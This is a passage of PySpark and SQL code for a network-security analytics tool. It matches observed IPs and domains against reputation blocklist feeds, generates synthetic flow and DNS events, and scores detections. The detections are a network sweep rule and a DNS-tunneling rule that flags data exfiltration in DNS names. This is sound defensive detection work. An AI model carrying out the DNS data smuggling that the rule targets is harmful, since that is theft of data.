def _links(links: tuple) -> str:
    return "concat_ws(' ', " + ", ".join(f"replace('{url}', '{{}}', indicator)" for _, url in links) + ")"


def blocklists(spark: SparkSession, sf_dir: str) -> dict[str, DataFrame]:
    for name in ("events", "customer", "nation", "supplier"):
        spark.read.parquet(f"{sf_dir}/{name}.parquet").createOrReplaceTempView(f"wiretide_{name}")
    run = lambda sql: spark.sql(sql.replace("FROM ", "FROM wiretide_"))
    feeds = run(ENTRIES)
    return {"seen": run(SEEN), "feeds": feeds, "status": reputation.feed_status(spark.sql(STATUS), feeds, F.expr(NOW))}


_STATUS_SQL = f"""status AS (SELECT l.name, l.kind, l.severity, fetched_at, coalesce(n, 0) AS entries, round((epoch_us({NOW}) - epoch_us(fetched_at)) / 3600000000.0, 1) AS age_hours, coalesce(n, 0) > 0 AS cached, coalesce((epoch_us({NOW}) - epoch_us(fetched_at)) / 3600000000.0 > 168, false) AS stale
  FROM ({STATUS}) l LEFT JOIN (SELECT feed, count(*) AS n FROM ({ENTRIES}) GROUP BY feed) e ON e.feed = l.name)"""


@query(f"WITH {_STATUS_SQL} SELECT name, kind, severity, entries, CAST(age_hours AS DOUBLE) AS age_hours, cached, stale FROM status")
def reputation_feed_status(spark: SparkSession, sf_dir: str) -> DataFrame:
    """What is known of each feed: entries, age, whether it is there and whether it is stale."""
    return blocklists(spark, sf_dir)["status"].drop("fetched_at")


@query(f"""WITH {_STATUS_SQL}, e AS ({ENTRIES}), a AS (SELECT DISTINCT ip, n FROM ({SEEN})), d AS (SELECT DISTINCT lower(rtrim(domain, '.')) AS domain FROM ({SEEN})),
hits AS (SELECT ip AS indicator, 'ip' AS kind, feed, severity, 'listed' AS detail FROM a JOIN e ON e.value = a.ip AND e.kind = 'ip' UNION ALL SELECT ip, 'ip', feed, severity, concat('within ', value) FROM a JOIN e ON n BETWEEN lo AND hi
  UNION ALL SELECT domain, 'domain', feed, severity, concat('matched ', min(value)) FROM d JOIN e ON e.kind IN ('domain', 'url') AND (domain = value OR ends_with(domain, concat('.', value))) GROUP BY ALL),
g AS (SELECT indicator, kind, ['info', 'low', 'medium', 'high', 'critical'][max(list_position(['info', 'low', 'medium', 'high', 'critical'], severity))] AS worst_severity, string_agg(concat(feed, ' ', detail), ', ' ORDER BY feed) AS sources FROM hits GROUP BY ALL)
SELECT indicator, kind, worst_severity, sources, (SELECT count(*) FROM status s WHERE cached AND (s.kind = 'ip') = (g.kind = 'ip')) AS checked_feeds, (SELECT string_agg(name, ' ' ORDER BY name) FROM status WHERE stale) AS stale_feeds,
  CASE WHEN kind = 'ip' THEN {_links(reputation.IP_LINKS)} ELSE {_links(reputation.NAME_LINKS)} END AS links FROM g""")
def reputation_report(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The listed addresses and names of all events: by which feeds, how well checked, and where to look on."""
    b = blocklists(spark, sf_dir)
    r = reputation.enriched_report(b["seen"].select("ip"), b["seen"].select("domain"), b["feeds"], b["status"])
    said = F.array_join(F.transform("sources", lambda x: F.concat(x["feed"], F.lit(" "), x["detail"])), ", ")
    return r.select("indicator", "kind", "worst_severity", said.alias("sources"), "checked_feeds", F.array_join("stale_feeds", " ").alias("stale_feeds"), F.array_join("links.url", " ").alias("links"))


# whole captures -----------------------------------------------------------------------------------------------

_NAME = f"concat({captures._LABEL}, '.user', user_id % 7, '.example.com')"
HITS = f"""flows AS (SELECT 'events' AS capture_id, {captures._SRC} AS src, {captures._DST} AS dst, 53 AS dport, epoch_us(ts) / 1e6 AS first_seen, epoch_us(ts) / 1e6 AS last_seen FROM events),
dns AS (SELECT 'events' AS capture_id, epoch_us(ts) / 1e6 AS ts, {captures._SRC} AS src_ip, '8.8.8.8' AS dst_ip, false AS is_response, 0 AS rcode, {_NAME} AS qname, CASE WHEN event_id % 3 = 0 THEN 'TXT' ELSE 'A' END AS qtype FROM events),
hits AS ({of("recon.network_sweep", "Network sweep", 3, group("flows", "capture_id, src, dport", "min(first_seen) AS ts, max(last_seen) AS fin", "count(DISTINCT dst) >= 20"), "true", "src", "src", last="fin")}
  UNION ALL {of("dns.tunneling", "Data in DNS names", "CASE WHEN score >= 80 THEN 4 ELSE 3 END", TUNNEL, "score >= 55", "client", "domain", last="fin")}),
found AS (SELECT id, title, max(rank) AS rank, count(*) AS count, least({rules.MOST_HOSTS}, count(DISTINCT host)) AS n_hosts FROM hits GROUP BY id, title)"""


#: SQL for queries of whole captures that stand in ``captures``.
FACT_SQL["capture_findings"] = f"WITH {HITS} SELECT id, title, ['info', 'low', 'medium', 'high', 'critical'][rank + 1] AS severity, count, CAST(n_hosts AS BIGINT) AS n_hosts FROM found"
FACT_SQL["capture_risk"] = f"""WITH {HITS}, p AS (SELECT CASE rank WHEN 4 THEN 0.42 ELSE 0.24 END AS p FROM found), r AS (SELECT CAST(round((1 - exp(sum(ln(1 - p)))) * 100) AS BIGINT) AS risk FROM p)
SELECT 'events' AS capture_id, risk, CASE WHEN risk >= 75 THEN 'critical' WHEN risk >= 50 THEN 'high' WHEN risk >= 25 THEN 'elevated' WHEN risk >= 10 THEN 'low' ELSE 'clean' END AS band FROM r"""
